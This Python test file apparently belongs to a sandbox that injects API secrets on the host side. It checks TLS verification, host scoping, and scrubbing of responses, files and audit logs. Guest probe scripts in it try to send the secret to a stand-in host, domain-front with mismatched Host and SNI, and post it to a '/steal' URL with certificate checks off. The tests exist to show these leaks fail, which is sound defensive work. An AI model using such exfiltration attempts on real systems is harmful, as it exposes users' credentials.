"""Secrets that never enter the guest: injected by the host only over TLS it verified, to the
scoped host, with a matching Host; scrubbed from what comes back; never in the guest's
environment, files, responses or the audit log. Vault refs (declaw's `vault_refs`) likewise."""

from __future__ import annotations

from pathlib import Path
from typing import Any, Callable

import pytest

from declaw_wasm import testing
from declaw_wasm import InvalidArgumentException, Secret, VaultClient, VaultScope

from .conftest import PROBE, outcome
from .upstream import Upstreams

VALUE = "sk-test/Abc+123_xyz"  # "/" and "+" exercise the URL-encoded and JSON-escaped spellings


def _nowhere_in(sbx: Any, value: str) -> None:
    """The value is in no file of the sandbox and in no audit event."""
    needle = value.encode()
    for path in testing.host_folder(sbx).rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert needle not in path.read_bytes(), path
    assert value not in "".join(e.model_dump_json() for e in sbx.audit_events())


def test_a_secret_reaches_only_its_host_over_verified_tls(make: Callable[..., Any], up: Upstreams) -> None:
    sbx = make(secrets={"OPENAI_API_KEY": Secret(VALUE, hosts=["api.openai.com"])})
    got = outcome(sbx, PROBE + """
import os, requests, http.client, gzip
key = os.environ["OPENAI_API_KEY"]
auth = {"Authorization": "Bearer " + key}
out = {"env": key, "env_all": "\\n".join(os.environ.values())}
r = requests.get("https://api.openai.com/v1/models", headers=auth)
out["echo"] = r.text
for path in ("/gzip", "/deflate", "/br"):
    out[path] = requests.get("https://api.openai.com" + path, headers=auth).text
out["header_echo"] = requests.get("https://api.openai.com/echo-auth-header", headers=auth).headers["X-Echo-Auth"]
out["query"] = requests.get("https://api.openai.com/q?key=" + key).text
out["plain_http"] = requests.get("http://api.openai.com/plain", headers=auth).json()["headers"]["Authorization"]
out["other_host"] = requests.get("https://other.example.com/other", headers=auth).json()["headers"]["Authorization"]
# a connection opened to other.example.com, asking for api.openai.com: refused
s = socket.create_connection(("other.example.com", 443))
t = ssl.create_default_context().wrap_socket(s, server_hostname="other.example.com")
t.sendall(("GET /fronted HTTP/1.1\\r\\nHost: api.openai.com\\r\\nAuthorization: Bearer " + key + "\\r\\n\\r\\n").encode())
out["fronting"] = t.recv(65536).decode().split("\\r\\n", 1)[0]
# TLS for api.openai.com on that connection is refused too (SNI must be its name)
s2 = socket.create_connection(("other.example.com", 443))
out["sni"] = attempt(lambda: ssl.create_default_context().wrap_socket(s2, server_hostname="api.openai.com").version())
open("/tmp/wrote.txt", "w").write(out["echo"] + key)
print(json.dumps(out))
""")
    key = got["env"]
    assert key.startswith("declaw-secret-") and VALUE not in got["env_all"]
    for name in ("echo", "/gzip", "/deflate", "/br", "query"):
        assert VALUE not in got[name] and "Bearer " + key in got[name] or name == "query", (name, got[name])
    assert key in got["query"] and VALUE not in got["query"]
    assert got["header_echo"] == "Bearer " + key
    assert got["plain_http"] == got["other_host"] == "Bearer " + key  # sent elsewhere: unchanged
    assert got["fronting"] == "HTTP/1.1 421 Misdirected Request"
    assert not got["sni"]["ok"] and "does not match" in got["sni"]["msg"]
    # what reached the upstreams
    seen = {r.path: r for r in up.records()}
    assert seen["/v1/models"].header("Authorization") == "Bearer " + VALUE
    assert seen["/gzip"].header("Authorization") == "Bearer " + VALUE
    assert seen["/q?key=sk-test%2FAbc%2B123_xyz"].server == "https"
    assert seen["/plain"].header("Authorization") == "Bearer " + key
    assert seen["/other"].header("Authorization") == "Bearer " + key
    assert "/fronted" not in seen
    injected = [e for e in sbx.audit_events() if e.secrets_injected]
    assert injected and all(e.host == "api.openai.com" and e.tls for e in injected)
    assert any(e.status_code == 421 and e.decision == "denied" for e in sbx.audit_events())
    _nowhere_in(sbx, VALUE)


def test_the_host_verifies_even_when_the_guest_does_not(make: Callable[..., Any], up: Upstreams) -> None:
    sbx = make(secrets={"TOKEN": Secret(VALUE, hosts=["wrongcert.example"])})
    got = outcome(sbx, PROBE + """
import os, urllib.request
req = urllib.request.Request("https://wrongcert.example/steal", headers={"Authorization": os.environ["TOKEN"]})
ctx = ssl._create_unverified_context()
out = {"urllib": attempt(lambda: urllib.request.urlopen(req, context=ctx).read().decode()),
       "requests": attempt(lambda: __import__("requests").get("https://wrongcert.example/x", verify=False).text)}
print(json.dumps(out))
""")
    for result in got.values():
        assert not result["ok"] and "certificate verify failed" in result["msg"], result
    assert up.records() == []


def test_vault_refs_and_provider_presets(make: Callable[..., Any], up: Upstreams) -> None:
    """verify_security_primitives check 11: the guest sees `declaw:vault-managed`; requests to the
    scoped host carry the real value (here the echo shows the placeholder back: see docs)."""
    vault = VaultClient()
    vault.create_secret("demo-secret-value", name="demo-token",
                        scopes=[VaultScope(domain_regex="postman-echo.com", injection_type="bearer")])
    vault.create_secret("sk-ant-value", name="claude", provider="anthropic")
    try:
        sbx = make(vault_refs={"DEMO_TOKEN": "demo-token", "ANTHROPIC_API_KEY": "vault://team/prod/claude"})
        env = sbx.commands.run("echo $DEMO_TOKEN").stdout.strip()
        assert env == "declaw:vault-managed"
        got = outcome(sbx, PROBE + """
import os, requests
out = {"echo": requests.get("https://postman-echo.com/get").text,
       "claude": requests.post("https://api.anthropic.com/v1/messages", json={},
                               headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"]}).text,
       "other": requests.get("https://example.com/", headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"]}).json()}
print(json.dumps(out))
""")
        seen = {r.path: r for r in up.records()}
        assert seen["/get"].header("Authorization") == "Bearer demo-secret-value"
        assert "demo-secret-value" not in got["echo"] and "Bearer declaw:vault-managed" in got["echo"]
        assert seen["/v1/messages"].header("x-api-key") == "sk-ant-value"
        assert seen["/v1/messages"].header("anthropic-version") == "2023-06-01"
        assert "sk-ant-value" not in got["claude"]
        assert seen["/"].header("x-api-key") == "declaw:vault-managed"
        _nowhere_in(sbx, "demo-secret-value")
    finally:
        vault.delete_secret("demo-token")
        vault.delete_secret("claude")


def test_bad_secret_arguments_are_refused(make: Callable[..., Any]) -> None:
    with pytest.raises(InvalidArgumentException, match="hosts"):
        make(secrets={"K": Secret("v", hosts=[])})
    with pytest.raises(InvalidArgumentException, match="control"):
        Secret("a\r\nb", hosts=["x.com"])
    with pytest.raises(InvalidArgumentException, match="both in envs"):
        make(envs={"K": "1"}, secrets={"K": Secret("v", hosts=["x.com"])})
    with pytest.raises(InvalidArgumentException, match="no vault secret"):
        make(vault_refs={"K": "missing"})
    assert "sk-" not in repr(Secret("sk-123", hosts=["x.com"]))
